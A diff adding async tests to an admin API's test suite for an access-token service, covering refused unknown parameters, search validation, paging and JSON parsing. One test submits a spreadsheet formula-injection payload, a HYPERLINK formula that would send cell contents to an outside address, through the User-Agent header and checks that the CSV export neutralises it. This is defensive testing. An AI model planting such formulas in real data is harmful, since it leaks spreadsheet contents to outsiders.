@@ -1,6 +1,8 @@
 """The admin API on the control socket: shapes, statuses and refusals, as the contract has them."""
 
 import asyncio
+import csv
+import io
 import json
 import stat
 import urllib.parse
@@ -652,6 +654,67 @@ async def test_what_there_is_not_is_a_problem_document_too(house: House) -> None
         "invalid",
         ["name"],
     )
+
+
+async def test_a_parameter_that_there_is_not_is_refused(house: House) -> None:
+    # a filter that is misspelt would show, or end, more than was meant
+    for path, name in (
+        ("/tokens?stat=paused", "stat"),
+        ("/tokens?state=paused&Action=x", "Action"),
+        ("/status?limit=1", "limit"),
+        ("/submissions/daily?day=1", "day"),
+        ("/openapi.json?x", "x"),
+    ):
+        refused(await house.admin("GET", path), 422, "invalid", [name])
+    refused(await house.admin("DELETE", "/actions/open-door?forced=true"), 422, "invalid")
+    refused(await house.admin("POST", "/tokens?action=open-door", data="{"), 422, "invalid")
+    answer = await house.admin("GET", "/tokens?limit=1&limit=2&b&a")
+    refused(answer, 422, "invalid", ["a"], ["b"], ["limit"])
+
+
+async def test_a_search_is_for_text_that_can_be_there(house: House) -> None:
+    token = await house.token(comment="A very rare plumber")
+    for words in ("rare%20PLUMB", token["id"][1:7]):
+        items = await pages(house, f"/tokens?q={words}&state=active&", 1)
+        assert [item["id"] for item in items] == [token["id"]]
+    for words in ("%25", "%ED%A0%80", "%FF", "x" * 500):
+        assert await pages(house, f"/tokens?q={words}&", 10) == []
+    for words in ("%00", "a%00", "x" * 501):
+        refused(await house.admin("GET", f"/tokens?q={words}"), 422, "invalid", ["q"])
+    everything = (await house.admin("GET", "/tokens?limit=3")).json
+    assert (await house.admin("GET", "/tokens?limit=3&q=")).json == everything
+
+
+async def test_keys_are_listed_over_pages(house: House) -> None:
+    for number in range(5):
+        body = {"name": f"paged {number}", "scope": "read"}
+        assert (await house.admin("POST", "/api-keys", json=body)).status == 201
+    names = [item["name"] for item in await pages(house, "/api-keys?", 2)]
+    assert names[:5] == [f"paged {number}" for number in range(4, -1, -1)]
+    assert len(set(names)) == len(names)
+
+
+async def test_a_body_is_json_whatever_it_is_called(house: House) -> None:
+    body = b'{"action": "open-door"}'
+    for kind in ("application/x-www-form-urlencoded", "text/xml", "application/json; charset=x"):
+        headers = {"Content-Type": kind}
+        answer = await house.admin("POST", "/tokens", data=body, headers=headers)
+        assert answer.status == 201, kind
+    utf_16 = body.decode().encode("utf-16")
+    refused(await house.admin("POST", "/tokens", data=utf_16), 400, "bad_json")
+
+
+async def test_a_visitor_cannot_write_formulas_into_the_owners_table(house: House) -> None:
+    token = await house.token(max_uses=9)
+    formula = '=HYPERLINK("http://192.0.2.1/?"&A1)'
+    for agent in (formula, f"x;{formula}", f" {formula}", f'";{formula}'):
+        await house.submit(token["code"], User_Agent=agent)
+    answer = await house.admin("GET", "/submissions.csv")
+    listed = (await house.admin("GET", f"/submissions?token={token['id']}")).json["items"]
+    assert any(item["user_agent"] == f"x;{formula}" for item in listed)  # the API tells it as it is
+    for delimiter in ",;\t":
+        for row in csv.reader(io.StringIO(answer.text, newline=""), delimiter=delimiter):
+            assert not any(cell.strip().startswith("=") for cell in row), row
 
 
 async def test_the_public_site_is_not_on_the_control_socket(house: House) -> None:
